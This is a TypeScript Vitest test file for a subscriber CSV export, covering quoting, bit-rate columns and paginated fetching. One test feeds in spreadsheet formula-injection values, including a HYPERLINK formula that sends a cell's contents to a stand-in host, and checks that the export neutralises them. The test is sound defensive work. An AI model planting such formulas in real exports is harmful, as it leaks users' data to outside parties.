import { describe, expect, it, vi } from "vitest";
import { fakeApi, jsonResponse } from "../../test/render";
import { EXPORT_HEADER, fetchAll, field, toCsv } from "./exportCsv";

const sub = (i: number) => ({
  id: i,
  imsi: String(1010000000000 + i).padStart(15, "0"),
  ue_ip: `10.47.0.${i % 250}`,
  teids: [i, i + 1000],
  tenant_id: 3,
  slice_ids: [21, 22],
  created_at: "2026-11-23T09:00:00Z",
  version: 1,
});

describe("subscriber export", () => {
  it("writes the import's columns with names, quoting what needs it", () => {
    const csv = toCsv(
      [sub(1)],
      new Map([[3, "acme, inc"]]),
      new Map([
        [21, "video"],
        [22, 'say "hi"'],
      ]),
    );
    expect(csv).toBe(`${EXPORT_HEADER}\r\n001010000000001,10.47.0.1,1;1001,"acme, inc","video;say ""hi""",\r\n`);
  });

  it("neutralises cells a spreadsheet would run as formulas", () => {
    const evil = '=HYPERLINK("http://x.example/?d="&A1,"click")';
    const csv = toCsv(
      [sub(3)],
      new Map([[3, evil]]),
      new Map([
        [21, "+1"],
        [22, "@SUM(A1)"],
      ]),
    );
    expect(csv.split("\r\n")[1]).toBe(
      `001010000000003,10.47.0.3,3;1003,"'=HYPERLINK(""http://x.example/?d=""&A1,""click"")",'+1;@SUM(A1),`,
    );
    for (const v of ["-2+3", "@x", "\tx", "\rx", "+x"]) expect(field(v).replace(/^"/, "")[0]).toBe("'");
    expect(field("acme")).toBe("acme");
  });

  it("writes a subscriber's own guarantee in bit/s, as the import reads it", () => {
    expect(EXPORT_HEADER).toBe("imsi,ue_ip,teids,tenant,slices,guaranteed_bps");
    const csv = toCsv(
      [{ ...sub(2), guaranteed_bps: 2_500_000 }],
      new Map([[3, "acme"]]),
      new Map([
        [21, "video"],
        [22, "voice"],
      ]),
    );
    expect(csv.split("\r\n")[1]).toBe("001010000000002,10.47.0.2,2;1002,acme,video;voice,2500000");
  });

  it("fetches every page of the filtered list", async () => {
    const all = Array.from({ length: 1203 }, (_, i) => sub(i + 1));
    const fake = fakeApi({
      "GET /api/v1/subscribers": (_req, url) => {
        const offset = Number(url.searchParams.get("offset"));
        const limit = Number(url.searchParams.get("limit"));
        return jsonResponse({ count: all.length, data: all.slice(offset, offset + limit) });
      },
    });
    vi.stubGlobal("fetch", fake.fetch);
    const progress: number[] = [];
    const rows = await fetchAll({ tenant_id: 3, sort: "imsi" }, (done) => progress.push(done));
    expect(rows).toHaveLength(1203);
    expect(progress).toEqual([500, 1000, 1203]);
    expect(fake.calls.map((c) => c.url.searchParams.get("tenant_id"))).toEqual(["3", "3", "3"]);
  });
});
